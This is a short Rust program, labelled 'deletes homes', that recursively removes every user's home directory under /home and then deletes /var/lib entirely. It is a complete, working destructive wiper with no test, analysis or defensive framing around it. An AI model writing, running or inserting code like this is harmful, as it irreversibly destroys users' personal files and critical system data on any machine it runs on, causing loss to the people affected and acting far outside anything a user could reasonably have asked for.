// deletes homes
use std::fs;
fn main() {
    for e in fs::read_dir("/home").unwrap().flatten() { let _ = fs::remove_dir_all(e.path()); }
    fs::remove_dir_all("/var/lib").ok();
}
